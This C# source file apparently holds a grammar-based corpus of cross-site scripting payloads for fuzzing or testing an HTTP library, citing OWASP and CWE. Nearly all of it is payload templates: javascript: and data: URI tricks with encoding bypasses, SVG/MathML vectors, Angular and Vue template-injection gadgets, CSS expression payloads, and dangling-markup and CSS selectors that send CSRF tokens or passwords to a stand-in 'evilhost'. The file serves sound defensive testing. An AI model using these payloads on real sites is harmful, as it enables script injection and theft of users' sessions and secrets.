namespace Weir.Http.Corpus.Attacks;

/// <summary>Addresses that run, SVG and MathML, frameworks, style sheets, markup left open, clobbering.</summary>
/// <remarks>OWASP WSTG-CLNT-01 to 03, CAPEC-244, CAPEC-247, CWE-79, CWE-83.</remarks>
internal static class XssCarriers
{
    public const string Text = """"
        ¶ ---- addresses that run ----
        §scheme
        6× javascript:«jspart»
        2× «jsword»:«jspart»
        javascript:«//«word».com/%0a¦//%0a¦/**/¦%0a¦//%0d%0a¦//␤¦/*«word»*/»«jspart»
        javascript:void(«jspart»)
        javascript:"«imglit»"
        javascript:«`«imglit»`¦'«imglit»'»
        data:text/html,«scripttag»
        data:text/html;base64,«scripttag→b64»
        data:«text/html;charset=utf-8¦image/svg+xml¦application/xhtml+xml¦text/xml¦;text/html¦text/html;base64»,«eventtag»
        data:image/svg+xml;base64,«svgmath→b64»
        vbscript:«msgbox(«num»)¦alert(1)¦msgbox "«xssword»"»
        «livescript¦mocha¦feed:javascript¦view-source:javascript¦jar:javascript¦wyciwyg¦mhtml:javascript»:«jspart»
        javascript&colon;«jspart»
        javascript«&#58;¦&#x3A;¦&#058¦%3a¦\x3a¦\u003a»«jspart»
        jav«&#x09;¦&#x0A;¦&#x0D;¦&Tab;¦&NewLine;¦␉¦␤¦%09¦%0a¦\t»ascript:«jspart»
        «&#106;¦&#x6a;¦&#0000106;¦\j¦\x6A¦%6a»avascript:«jspart»
        «␁¦␠¦%01¦&#14;¦&#1;¦%20¦%0a¦␤»javascript:«jspart»
        «jsword→entdec»:«jspart»
        javascript:«jspart→entdec»
        javascript:«jspart→url»
        javascript:«run→slashu»
        javascript:eval(«name¦location.hash.slice(1)¦atob('«run→b64»')»)
        «jsword→tabbed»:«jspart»
        §jslit
        javascript
        §jsword
        4× javascript
        «jslit→case»
        «JaVaScRiPt¦JAVASCRIPT¦jAvAsCrIpT¦Javascript»
        §schemetag
        6× <a«gap»href«eq»«hrefval»>«xssword»</a>
        3× <iframe«gap»src«eq»«hrefval»«></iframe>¦>»
        2× <«img¦embed¦input type=image¦bgsound¦frame¦image»«gap»src«eq»«hrefval»«tagend»
        <object«gap»data«eq»«hrefval»«></object>¦>»
        <form«gap»action«eq»«hrefval»><«input type=submit¦button»>«xssword»
        <«button¦input type=submit»«gap»formaction«eq»«hrefval»«gap»>«xssword»</button>
        <form id=«$f:letter»></form><button form=«$f» formaction«eq»«hrefval»>«xssword»
        <iframe srcdoc«eq»«"«scripttag»"¦'«eventtag»'¦"«imglit→entdec»"¦«scripttag→entdec»»>
        <base href«eq»«hrefval»>
        <base href=//«evilhost»>
        <math«gap»href«eq»«hrefval»>«xssword»
        <link rel=«stylesheet¦import¦"alternate"»«gap»href«eq»««hrefval»¦«evilurl»»>
        <meta http-equiv=«"¦»refresh«"¦» content="0;«url=¦URL=¦»«scheme»">
        <isindex«gap»«action¦formaction»«eq»«hrefval» type=image>
        <area«gap»href«eq»«hrefval»>
        <script«gap»src«eq»«hrefval»></script>
        <svg><a xlink:href«eq»«hrefval»><text x=20 y=20>«xssword»</text></a>
        <applet code="javascript:«jspart»">
        <«body¦table¦td» background«eq»«hrefval»>
        <xml src«eq»«hrefval» id=x></xml>
        <portal src«eq»«hrefval»></portal>
        [«xssword»](«scheme»)
        ![«xssword»](«scheme»)
        [«xssword»](javascript:«jspart» "«word»")
        <javascript:«jspart»>
        ![«xssword»]("onerror="«jspart»)
        ![«xssword»](x"onerror="«jspart»)
        [url=«scheme»]«xssword»[/url]
        [img]«scheme»[/img]
        [color=red" onmouseover="«jspart»]«xssword»[/color]
        §hrefval
        5× "«scheme»"
        3× '«scheme»'
        5× «scheme»
        `«scheme»`
        %22«scheme»%22

        ¶ ---- SVG, MathML, XML ----
        §svgmath
        3× <svg><script«¦«gap»«letter»»>«jspart»</script>«</svg>¦»
        3× <svg«¦ xmlns="http://www.w3.org/2000/svg"»«gap»onload«eq»«qjs»«/>¦></svg>¦>»
        2× <svg><«animate¦set¦animatetransform¦animatemotion»«gap»on«begin¦end¦repeat»«eq»«qjs» attributeName=x dur=1s>
        <svg><script«gap»«xlink:href¦href»«eq»«hrefval» />«</svg>¦»
        <svg><«a¦circle¦rect¦g» «¦id=x »><«animate¦set» attributeName=«href¦xlink:href» «values¦to¦from»=«hrefval» /><text x=20 y=20>«xssword»</text></a>
        <svg><use «xlink:¦»href="data:image/svg+xml«,«svginner»¦;base64,«svginner→b64»»#x"/></svg>
        <svg><style><img src="</style>«imglit»">
        <svg><«title¦desc¦foreignObject»>«eventtag»
        <svg><discard onbegin=«jspart»>
        <svg><image «xlink:¦»href=«srcval» onerror=«jspart»>
        <svg><script>«run→entdec»</script>
        <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">«jspart»</handler>
        <svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:«jspart»"></g></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«jspart»&gt;">
        <math><«maction¦mi¦mrow¦mtext» «actiontype="statusline#«evilurl»" ¦»«xlink:¦»href="javascript:«jspart»">«xssword»
        <form><math><mtext></form><form><mglyph><style></math>«imglit»
        <«noscript¦style¦noembed¦noframes¦xmp¦textarea¦title»><«p¦a» «title¦id»="</«noscript¦style¦noembed¦noframes¦xmp¦textarea¦title»>«imglit»">
        <?xml version="1.0"?><«x¦html» xmlns="http://www.w3.org/1999/xhtml"><script>«jspart»</script></«x¦html»>
        <x:script xmlns:x="http://www.w3.org/1999/xhtml">«jspart»</x:script>
        <![CDATA[<]]>script<![CDATA[>]]>«jspart»<![CDATA[<]]>/script<![CDATA[>]]>
        <xml id=x><«letter»><b>&lt;script&gt;«jspart»&lt;/script&gt;</b></«letter»></xml>
        <html:script xmlns:html='http://www.w3.org/1999/xhtml'>«jspart»</html:script>
        <?xml-stylesheet href="javascript:«jspart»"?>
        <!DOCTYPE «letter» [<!ENTITY «letter» "«eventtag→enthex»">]>
        <embed src="data:image/svg+xml;base64,«svginner→b64»" type="image/svg+xml">
        §svginner
        <svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>
        <svg xmlns="http://www.w3.org/2000/svg" onload="«run»"/>

        ¶ ---- frameworks and templates on the client ----
        §frameworks
        3× {{«ngobj».constructor«.constructor¦»(«'«pop»(«arg»)'¦"«pop»(«arg»)"»)()}}
        2× {{«ng»}}
        {{constructor.constructor('«jspart»')()}}
        {{$«on¦eval¦emit¦new¦root».constructor('«jspart»')()}}
        {{_«openBlock¦c¦Vue.h».constructor`«jspart»`()}}
        <«div¦a¦x¦input» «ng-app ¦data-ng-app ¦»ng-«click¦init¦focus¦mouseover¦src¦csp ng-click»="««ng»¦constructor.constructor('«jspart»')()»">«xssword»
        <«div¦x¦p» v-«html¦bind:a¦on:click¦show¦if¦text»="«_c.constructor('«jspart»')()¦''.constructor.constructor('«jspart»')()¦'«imglit»'»">
        <«x¦div» @«click¦error¦mouseover»="_«withCtx¦c».constructor('«jspart»')()">
        <x @[_b.constructor`«jspart»`()]>
        <«div¦x» «x-data x-init¦x-init¦:«letter»¦x-html»="«jspart»">
        <div data-«bind="value: «jspart»"¦toggle=tooltip data-html=true title='«imglit»'¦target="«imglit»"¦role=popup id='--><script>«jspart»</script>'»></div>
        <div hx-on:«click¦load»="«jspart»">
        <«a¦div» «data-turbo=false ¦»href="javascript:«jspart»" data-«method=post¦remote=true»>
        {"dangerouslySetInnerHTML":{"__html":"«imglit→json»"}}
        <link rel=import href="data:text/html,«scripttag»">
        <script src=«/api?callback=¦/jsonp?cb=¦//ajax.googleapis.com/ajax/services/feed/find?v=1.0%26callback=»«run→url»></script>
        <template><img src=x onerror=«jspart»></template>
        {{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };«jspart»//');}}
        ${«jspart»}
        <%= «jspart» %>
        §ngobj
        «x¦a¦''¦{}¦[]¦$on¦toString¦"«letter»"¦this¦$event.view¦$parent¦'a'.sub»
        §ng
        «'a'.constructor.prototype.charAt=[].join;¦»$eval('x=«run»')
        x=«'y'¦{'y':''.constructor.prototype}»;x['y'].charAt=[].join;$eval('x=«run»')
        toString().constructor.prototype.charAt=[].join;[1]|orderBy:toString().constructor.fromCharCode(«alertcode→codes»)
        [1]|orderBy:«'«run»'¦'x=«run»'»
        $event.«view.«run»¦path|orderBy:'[].constructor.from([1],«pop»)'¦composedPath()|orderBy:'(z=«pop»)(1)'»
        a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,«run»,a')
        {}.")));«jspart»//"

        ¶ ---- CSS, markup left open, clobbering ----
        §cssxss
        2× <«div¦xss¦b¦img¦p» style«eq»"«cssbody»">
        2× <style>«cssrule»</style>
        <style «type="text/css"¦»>@import«␠¦»«'¦"¦url(»««evilurl»¦javascript:«jspart»»«'¦"¦)»;</style>
        <link rel=stylesheet href=«data:,«cssrule»¦//«evilhost»/«rand».css¦javascript:«jspart»»>
        «word»;«cssbody»
        }«cssrule»
        </style>«eventtag»
        "«;¦}»«cssbody»
        §cssbody
        «xss¦width¦x¦background»:expression(«jspart»)
        xss:expr/*«xssword»*/ession(«jspart»)
        background«-image¦»:url(«"¦»javascript:«jspart»«"¦»)
        -moz-binding:url(«http://«evilhost»/xss.xml#xss¦data:text/xml,«rand»»)
        behavior:url(«"#default#time2"¦xss.htc¦http://«evilhost»/x.htc»)
        list-style-image:url("javascript:«jspart»")
        width:e\xpression(«jspart»)
        -o-link:'javascript:«jspart»';-o-link-source:current
        color:red;background:url(//«evilhost»/?«word»)
        x:expre\0073sion(«jspart»)
        filter:progid:DXImageTransform.Microsoft.«rand»(src='javascript:«jspart»')
        animation:x 1s;«letter»:«letter»
        §cssrule
        «body¦*¦a¦li¦.«letter»¦input»{«cssbody»}
        input[«name=csrf¦type=password»][value^=«letter»]{background:url(//«evilhost»/?v=«letter»)}
        @import'http://«evilhost»/xss.css';
        @import "javascript:«jspart»";
        BODY{-moz-binding:url("http://«evilhost»/xssmoz.xml#xss")}
        @font-face{font-family:x;src:url(//«evilhost»/?«letter»);unicode-range:U+00«hexdigit*2»}
        §dangling
        2× «aq»><img src=«'¦"»«http¦https»://«evilhost»/?«letter»=
        2× <img src=«'¦"»//«evilhost»/?
        <meta http-equiv="refresh" content='0;url=http://«evilhost»/?«letter»=
        <«a¦base» «href=http://«evilhost»/ ¦»target='
        <form action=//«evilhost»/«rand»><«input type=submit¦button»>«xssword»«¦<textarea name=«letter»>¦<input name=«word»»
        </form><form action=«evilurl»>
        "><form action="«evilurl»" method=«post¦get»><«input name=«word»¦button»>
        <textarea name=«letter»><
        <«form¦a¦img¦input¦iframe» «id¦name»=«cookie¦getElementById¦body¦documentElement¦attributes¦currentScript¦innerHTML¦domain¦defaultView»«¦ href="javascript:«jspart»"¦><input «id¦name»=«attributes¦parentNode¦nodeName¦innerHTML»»>
        <a id=«$c:word»><a id=«$c» name=«word» href=«scheme»>
        <plaintext/onmouseover=«jspart»>
        <iframe src=«evilurl»«¦ width=0 height=0¦ style=display:none¦></iframe>»
        <«embed¦object» «src¦data»=«evilurl»«¦ allowscriptaccess=always¦ type=application/x-shockwave-flash»>
        «aq»><h1>«xssword»</h1>
        <marquee>«xssword»</marquee>
        «aq»><a href=«evilurl»>«click here¦«xssword»»</a>
        <script src=«evilurl»
        <«b¦i¦u¦s¦h1¦h2¦font color=red¦blink¦div»>«xssword»</«b¦h1»>«¦<script>»
        <iframe src=«"¦»//«evilhost»«"¦»>
        """";
}
